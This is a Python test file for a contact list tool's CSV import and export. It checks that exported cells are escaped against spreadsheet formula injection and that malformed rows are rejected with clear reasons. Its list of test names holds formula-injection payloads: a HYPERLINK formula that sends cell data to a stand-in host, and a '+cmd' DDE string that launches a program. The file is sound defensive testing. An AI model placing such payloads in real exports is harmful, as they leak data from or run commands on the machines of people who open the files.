"""``import`` and ``export`` with files as people and attackers have them (issue 25): real files,
the console script in a subprocess, the mock served over HTTP."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from voipbin_outdial import VoipbinClient
from voipbin_outdial.contacts import Rejected, read_contacts

from .conftest import cli
from .test_cli_import_export import ENV, new_outdial

# Names a spreadsheet would run (issue 25), and names that only look like an escape.
HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "%0A",
    "|pipe \\| and a backslash",
    "'=1",  # really starts with a quote
    "'plain",
    "''",
    "-1",  # a plain number stays as it is
]


def outdial_with_names(base_url: str, names: list[str]) -> str:
    outdial = new_outdial(base_url)
    with VoipbinClient(token="t", base_url=base_url) as client:
        for n, name in enumerate(names):
            client.outdialtargets.create(
                outdial,
                name=name,
                detail=name,
                data=f"row-{n}",
                destinations=[{"type": "tel", "target": f"+1201555{n:04d}"}],
            )
    return outdial


def names_in(base_url: str, outdial: str) -> dict[str, tuple[str, str]]:
    with VoipbinClient(token="t", base_url=base_url) as client:
        return {t.data: (t.name, t.detail) for t in client.outdialtargets.iter(outdial)}


def test_an_export_is_safe_to_open_and_imports_back_exactly(
    mock_server: str, tmp_path: Path
) -> None:
    source = outdial_with_names(mock_server, HOSTILE_NAMES)
    export = cli("export", "--outdial", source, "--base-url", mock_server, env=ENV)
    assert export.returncode == 0, export.stderr

    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    written = {r["data"]: r["name"] for r in rows}
    for n, name in enumerate(HOSTILE_NAMES):
        cell = written[f"row-{n}"]
        if name == "-1":
            assert cell == "-1"
        else:  # text to a spreadsheet: its first character is the quote that says so
            assert cell.startswith("'"), cell

    exported = tmp_path / "export.csv"
    exported.write_text(export.stdout, encoding="utf-8")
    target = new_outdial(mock_server)
    imported = cli("import", str(exported), "--outdial", target, "--base-url", mock_server, env=ENV)
    assert imported.returncode == 0, imported.stderr
    assert names_in(mock_server, target) == names_in(mock_server, source)
    assert {name for name, _ in names_in(mock_server, target).values()} == set(HOSTILE_NAMES)


def test_a_file_the_tool_did_not_write_is_read_as_it_is(tmp_path: Path) -> None:
    """Only a file with the export's (or the rejects') header has its escapes taken off: in a
    list written by hand, a name that starts with a quote keeps it."""
    source = tmp_path / "in.csv"
    source.write_text("name,detail,data,destination_0\n'=1,'card,x,12345\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = cli("import", str(source), "--outdial", "x", "--dry-run", "--rejects", str(rejects))
    assert result.returncode == 1  # 12345 is no phone number: rejected, and written
    with rejects.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert (row["name"], row["detail"]) == ("''=1", "''card")  # escaped as an export is
    data = rejects.read_bytes()
    assert data.count(b"\n") == data.count(b"\r\n") == 2  # the export's line ends
    with rejects.open(newline="", encoding="utf-8") as f:  # and read back as it was
        (again,) = read_contacts(f)
    assert isinstance(again, Rejected)
    assert (again.cells["name"], again.cells["detail"]) == ("'=1", "'card")


# -- nothing dropped silently (issue 25, point 2) --------------------------------------------

HEADER = "name,detail,data,destination_0\n"


def dry_run(path: Path, *options: str) -> tuple[int, list[str], str]:
    """``import PATH --dry-run``: the exit status, stderr's lines and stdout."""
    result = cli("import", str(path), "--outdial", "x", "--dry-run", *options)
    return result.returncode, result.stderr.splitlines(), result.stdout


def test_a_number_with_an_extension_is_rejected_not_cut(tmp_path: Path) -> None:
    """issue 25: both became +1203..., the extension gone without a word."""
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER + "Ada,d,x,203 550 0016 x116\nBob,d,x,204-550-0017 ext. 12\nCy,d,x,2035500016\n"
    )
    status, errors, summary = dry_run(source)
    assert status == 1
    assert summary == "dry run: 1 rows to import, 2 rejected\n"
    assert errors == [
        "line 2: destination_0: '203 550 0016 x116' has an extension ('116'), which a tel "
        "address cannot carry",
        "line 3: destination_0: '204-550-0017 ext. 12' has an extension ('12'), which a tel "
        "address cannot carry",
    ]


def test_a_control_character_in_a_cell_is_a_reject_naming_line_and_column(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(
        (HEADER + "A\x00da,d,x,+12015550123\nBob,d\x1b[2J,x,+12015550124\n").encode()
        + b'Cy,"two\nlines",x,+12015550125\nDi,d,x,+12015550126\n'
    )
    status, errors, summary = dry_run(source)
    assert status == 1
    assert summary == "dry run: 1 rows to import, 3 rejected\n"
    assert errors == [
        "line 2: name: 'A\\x00da' holds a control character (U+0000), which is refused",
        "line 3: detail: 'd\\x1b[2J' holds a control character (U+001B), which is refused",
        "line 5: detail: 'two\\nlines' holds a control character (U+000A), which is refused",
    ]


def test_a_reason_quotes_at_most_40_characters_of_a_cell(tmp_path: Path) -> None:
    """issue 25: a 120,000-character bad cell was echoed whole into one stderr line."""
    source = tmp_path / "in.csv"
    source.write_text(HEADER + "Ada,d,x," + "9" * 120_000 + "\n" + "Bob,d,x,+12015550123,extra\n")
    status, errors, _ = dry_run(source)
    assert status == 1
    assert errors == [
        f"line 2: destination_0: {'9' * 40!r}... (120,000 characters) is not a phone number "
        "((4) The string supplied was too long to parse.)",
        "line 3: column 5: 'extra' is past the header's 4 columns",
    ]
